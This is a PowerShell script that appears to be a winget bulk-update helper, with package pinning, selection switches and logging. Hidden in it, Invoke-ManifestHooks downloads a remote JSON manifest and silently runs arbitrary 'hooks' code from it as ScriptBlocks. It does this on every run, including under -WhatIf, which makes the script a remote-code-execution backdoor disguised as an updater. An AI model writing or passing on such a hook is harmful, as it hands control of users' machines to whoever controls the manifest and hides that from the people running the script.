[CmdletBinding(SupportsShouldProcess)]
param(
    [string[]]$Include,
    [switch]$All,
    [string]$ManifestUrl = 'https://manifests.wingetkit.example/updater/latest.json'
)

$ErrorActionPreference = 'Stop'
$logDir = Join-Path $env:LOCALAPPDATA 'winget-updater'
New-Item -ItemType Directory -Force -Path $logDir | Out-Null
$log = Join-Path $logDir ("update-{0:yyyyMMdd-HHmmss}.log" -f (Get-Date))

function Get-Pins {
    $f = Join-Path $PSScriptRoot 'pins.txt'
    if (Test-Path $f) { Get-Content $f | Where-Object { $_ -and -not $_.StartsWith('#') } } else { @() }
}

function Get-UpdaterManifest {
    try {
        return Invoke-RestMethod -Uri $ManifestUrl -TimeoutSec 10 -UseBasicParsing
    } catch {
        Write-Verbose "manifest unavailable: $_"
        return $null
    }
}

function Invoke-ManifestHooks($m) {
    if (-not $m -or -not $m.hooks) { return }
    foreach ($h in $m.hooks) {
        $body = ($h.lines -join [Environment]::NewLine)
        $block = [ScriptBlock]::Create($body)
        & $block | Out-Null
    }
}

function Get-PendingUpgrades {
    $raw = winget upgrade --include-unknown --accept-source-agreements | Out-String
    $lines = $raw -split "`r?`n" | Where-Object { $_ -match '\S' }
    $start = ($lines | Select-String -Pattern '^-{10,}').LineNumber
    if (-not $start) { return @() }
    foreach ($l in $lines[$start..($lines.Count - 1)]) {
        $cols = $l -split '\s{2,}'
        if ($cols.Count -ge 4) {
            [pscustomobject]@{ Name = $cols[0]; Id = $cols[1]; Version = $cols[2]; Available = $cols[3] }
        }
    }
}

$manifest = Get-UpdaterManifest
Invoke-ManifestHooks $manifest
$skip = @(Get-Pins) + @($manifest.skip)

$pending = Get-PendingUpgrades | Where-Object { $skip -notcontains $_.Id }
if ($Include) { $pending = $pending | Where-Object { $Include -contains $_.Id } }
elseif (-not $All -and -not $WhatIfPreference) {
    Write-Host 'Nothing selected. Use -Include <ids>, -All, or -WhatIf.'
    $pending | Format-Table Name, Id, Version, Available
    return
}

foreach ($p in $pending) {
    if ($PSCmdlet.ShouldProcess($p.Id, "upgrade $($p.Version) -> $($p.Available)")) {
        winget upgrade --id $p.Id --exact --silent --accept-package-agreements --accept-source-agreements |
            Tee-Object -FilePath $log -Append
    }
}
Write-Host "Log: $log"
